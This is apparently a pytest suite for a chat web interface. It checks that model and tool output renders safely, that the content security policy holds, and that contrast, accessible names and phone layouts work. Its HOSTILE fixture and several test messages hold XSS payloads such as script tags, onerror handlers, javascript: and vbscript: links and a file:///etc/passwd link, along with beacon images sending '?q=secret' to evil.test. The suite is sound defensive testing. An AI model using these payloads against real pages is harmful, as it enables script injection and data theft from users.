"""Safety of the page against content of models and servers; contrast, accessible names and narrow screens."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.support.browser import Browser, BrowserError, Tab
from tests.support.web_page import DONE, assert_harmless, open_page, read_text, send_message, serve_page, two_servers

HOSTILE = """<script>alert(1)</script> <img src=https://evil.test/a.png onerror=alert(2)>

![beacon](https://evil.test/b.png?q=secret) ![](https://evil.test/c.png "t")
![x](data:text/html,<script>alert(3)</script>)

[one](javascript:alert(4)) [two](JaVaScRiPt:alert(5)) [three](&#106;avascript:alert(6)) [four](data:text/html,hi)
[five](vbscript:x) [six](<java\tscript:alert(7)>) [seven](file:///etc/passwd) <javascript:alert(8)>
[good.test](https://bank.test@evil.test/path) [\u0430pple.com](https://\u0430pple.com) [mail](mailto:a@b.test)

<iframe src="https://evil.test"></iframe><style>body{display:none}</style><svg onload=alert(9)>

| <b>x</b> | [a](javascript:alert(10)) |
|---|---|
| <img src=x onerror=alert(11)> | ![i](https://evil.test/d.png) |

```html"><script>alert(12)</script>
<script>alert(13)</script>
```

<a href="https://evil.test" onclick="alert(14)">raw</a> `<img src=https://evil.test/e.png>`
"""

# The contrast of every visible text with its background: WCAG 2.2, 1.4.3 requires 4.5 to 1.
CONTRASTS = """
(() => {
  const channel = (c) => (c /= 255) <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
  const light = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
  const canvas = new OffscreenCanvas(1, 1).getContext("2d", {willReadFrequently: true});
  const over = (colours) => {
    canvas.clearRect(0, 0, 1, 1);
    for (const colour of colours) { canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1); }
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const poor = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    const box = element.getBoundingClientRect();
    const text = walker.currentNode.data.trim().slice(0, 30);
    if (!text || box.width < 2 || !element.checkVisibility({visibilityProperty: true})) continue;
    const behind = [];
    for (let e = element; e; e = e.parentElement) behind.unshift(getComputedStyle(e).backgroundColor);
    const back = over(behind);
    const front = over([...behind, getComputedStyle(element).color]);
    const [more, less] = [light(front), light(back)].sort((a, b) => b - a);
    const ratio = (more + 0.05) / (less + 0.05);
    if (ratio < 4.5) poor.push(`${element.className || element.tagName}: ${ratio.toFixed(2)} ${text}`);
  }
  return poor;
})()
"""


def test_hostile_markdown_is_text_and_links_show_their_targets(chromium: Browser, tmp_path: Path) -> None:
    with serve_page(tmp_path, [{"text": HOSTILE, "chunk_size": 5}, "Ready."]) as address:
        tab = open_page(chromium, address)
        send_message(tab, "<img src=https://evil.test/f.png onerror=alert(15)> <script>alert(16)</script>")
        tab.until(DONE)
        links = tab.run("[...document.querySelectorAll('.turn a')].map(a => [a.protocol, a.rel, a.target])")
        assert {tuple(link) for link in links} == {
            ("https:", "noopener noreferrer", "_blank"),
            ("mailto:", "noopener noreferrer", "_blank"),
        }
        assert tab.run("document.querySelectorAll('.turn :is(img, script, iframe, style, object, embed)').length") == 0
        assert "<script>alert(1)</script>" in read_text(tab, ".answer")
        hosts = tab.run("[...document.querySelectorAll('.turn .host')].map(e => e.textContent)")
        assert hosts == ["evil.test", "evil.test", "evil.test", "xn--pple-43d.com", "b.test", "evil.test"]
        tab.reload()
        tab.until(DONE)
        assert tab.run("document.querySelectorAll('.turn :is(img, script, iframe, style, object, embed)').length") == 0
        policy = tab.run("fetch('/').then((answer) => answer.headers.get('content-security-policy'))")
        assert "script-src 'self'" in policy
        assert "unsafe" not in policy
        assert_harmless(tab, address)


def test_the_content_security_policy_blocks_forbidden_actions(chromium: Browser, tmp_path: Path) -> None:
    with serve_page(tmp_path, ["Hello."]) as address:
        tab = open_page(chromium, address)
        tab.run("new Image().src = 'https://evil.test/a.png'; void 0")
        tab.run("fetch('https://evil.test/b').catch(() => null)")
        with pytest.raises(BrowserError, match="TrustedHTML"):
            tab.run("document.body.innerHTML = '<b>x</b>'")
        refused = [message for message in tab.console_errors if "Content Security Policy" in message]
        assert [name for name in ("a.png", "evil.test/b") if not any(name in message for message in refused)] == []
        with pytest.raises(AssertionError):
            assert_harmless(tab, address)


def test_names_arguments_and_results_of_tools_are_shown_as_text(chromium: Browser, tmp_path: Path) -> None:
    arguments = {"<script>alert(1)</script>": "<img src=https://evil.test/a.png>", "text": "turned \u202e around"}
    call = {"tool_calls": [{"name": "echo", "arguments": arguments}]}
    title = {"tool_calls": [{"name": "<svg onload=alert(2)>", "arguments": {}}]}
    with serve_page(tmp_path, [call, title, "Done."], two_servers()) as address:
        tab = open_page(chromium, address)
        send_message(tab, "Go")
        tab.until("document.querySelector('.request') || document.querySelector('.turn-foot')")
        if tab.run("!!document.querySelector('.request')"):
            assert "turned \\u{202e} around" in read_text(tab, ".request pre")
            tab.click(".request .primary")
        tab.until(DONE)
        assert tab.run("document.querySelectorAll('.turn :is(img, script)').length") == 0
        assert "turned \\u{202e} around" in read_text(tab, ".tool pre")
        assert_harmless(tab, address)


def test_a_line_of_a_megabyte_is_truncated_and_shown_completely_on_request(chromium: Browser, tmp_path: Path) -> None:
    size = 1 << 20
    with serve_page(tmp_path, [{"text": "*a_[`" * (size // 5), "chunk_size": 1 << 16}, "Still here."]) as address:
        tab = open_page(chromium, address)
        send_message(tab, "A lot")
        tab.until(DONE)
        assert tab.run("document.querySelector('.prose').textContent.length") < 30_000
        assert "Show all" in read_text(tab, ".prose .text-button")
        send_message(tab, "Still there?")
        tab.until("document.querySelector('.turn:last-child .prose')?.textContent === 'Still here.'")
        tab.run("document.querySelector('.prose .text-button').click()")
        assert tab.run("document.querySelector('.prose').textContent.length") == size - size % 5
        assert_harmless(tab, address)


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_every_text_has_enough_contrast(chromium: Browser, tmp_path: Path, theme: str) -> None:
    replies: list[Any] = [
        {
            "reasoning": "Hm.",
            "text": "# H\n\ntext [a](https://b.test) `code`\n\n```py\nx\n```\n\n> quote\n\n| a | b |\n|-|-|\n| 1 | 2 |",
        },
        {"text": "Now:", "tool_calls": [{"name": "echo", "arguments": {"text": "x"}}]},
        {"text": "so", "error": {"message": "it broke", "status": 400}},
    ]
    servers = two_servers() | {"broken": {"command": "no-such-program"}}
    with serve_page(tmp_path, replies, servers) as address:
        tab = open_page(chromium, address, prefers_color_scheme=theme)
        assert tab.run("document.documentElement.dataset.theme") == theme
        tab.choose_file("#attach-input", a_document(tmp_path))
        tab.until("document.querySelector('.file')")
        assert tab.run(CONTRASTS) == []
        send_message(tab, "Show all")
        tab.until(DONE)
        tab.click(".reasoning summary")
        send_message(tab, "Use a tool")
        tab.until("document.querySelector('.request')")
        assert tab.run(CONTRASTS) == []
        tab.click(".request .primary")
        tab.until("document.querySelector('.failed')")
        tab.click(".tool summary")
        assert tab.run(CONTRASTS) == []
        tab.click("#servers-button")
        tab.until("document.querySelector('#servers .failure')")
        assert tab.run(CONTRASTS) == []
        tab.press("Escape")
        tab.click("#theme")
        assert tab.run("document.documentElement.dataset.theme") != theme
        tab.reload()
        assert tab.run("document.documentElement.dataset.theme") != theme


def test_every_control_has_an_accessible_name(chromium: Browser, tmp_path: Path) -> None:
    replies = ["```py\nx\n```", {"tool_calls": [{"name": "asks", "arguments": {}}]}]
    with serve_page(tmp_path, replies, two_servers()) as address:
        tab = open_page(chromium, address)
        tab.choose_file("#attach-input", a_document(tmp_path))
        tab.until("document.querySelector('.file')")
        assert nameless(tab) == []
        send_message(tab, "Code")
        tab.until(DONE)
        tab.until("document.getElementById('announcements').textContent === 'Code, 1 line. End of the answer.'")
        assert nameless(tab) == []
        send_message(tab, "Ask me")
        tab.until("document.querySelector('.request-form')")
        assert nameless(tab) == []
        tab.click("#servers-button")
        tab.until("document.querySelector('#servers .server')")
        assert nameless(tab) == []
        polite = "[...document.querySelectorAll('[aria-live=polite], [role=status]')].map(e => e.id)"
        assert tab.run(polite) == ["announcements"]
        tab.press("Escape")
        tab.until("!document.getElementById('servers').open")
        tab.press("Escape")
        tab.until("document.querySelector('.stopped')")


def a_document(folder: Path) -> Path:
    """Return a file that can be attached."""
    path = folder / "report.pdf"
    path.write_bytes(b"%PDF-1.7")
    return path


def nameless(tab: Tab) -> list[Any]:
    """Return the roles of controls without a name in the accessibility tree."""
    used = {"button", "link", "textbox", "searchbox", "checkbox", "menuitem", "combobox", "region", "dialog"}
    nodes = tab.call("Accessibility.getFullAXTree")["nodes"]
    return [
        node["role"]["value"]
        for node in nodes
        if not node["ignored"] and node["role"]["value"] in used and not node.get("name", {}).get("value")
    ]


def test_the_page_fits_the_width_of_a_phone(chromium: Browser, tmp_path: Path) -> None:
    table = f"|{' a |' * 20}\n|{'---|' * 20}\n|{' cell |' * 20}"
    wide = f"{'w' * 400}\n\n```\n{'c' * 400}\n```\n\n{table}"
    call = {"text": wide, "tool_calls": [{"name": "echo", "arguments": {"text": "y" * 400}}]}
    with serve_page(tmp_path, [call, wide], two_servers()) as address:
        tab = open_page(chromium, address)
        tab.resize(360, 740, phone=True)
        tab.click("#message")
        tab.type("z" * 200)
        tab.click("#send")
        tab.until("document.querySelector('.request')")
        assert tab.run("document.documentElement.scrollWidth") == 360
        assert tab.run("document.getElementById('view').scrollWidth <= innerWidth") is True
        tab.click(".request .primary")
        tab.until(DONE)
        assert tab.run("document.getElementById('view').scrollWidth <= innerWidth") is True
        assert tab.run("document.getElementById('sidebar').checkVisibility({visibilityProperty: true})") is False
        keys = "getComputedStyle(document.getElementById('keys')).display"
        tab.resize(844, 390, phone=True)
        assert tab.run(keys) == "none", "the space is for messages where the window is low"
        tab.resize(844, 900)
        assert tab.run(keys) == "block"
        tab.resize(360, 740, phone=True)
        tab.click("#menu")
        tab.until("document.getElementById('sidebar').getBoundingClientRect().left === 0")
        tab.press("Escape")
        tab.until("!document.body.classList.contains('with-sidebar')")
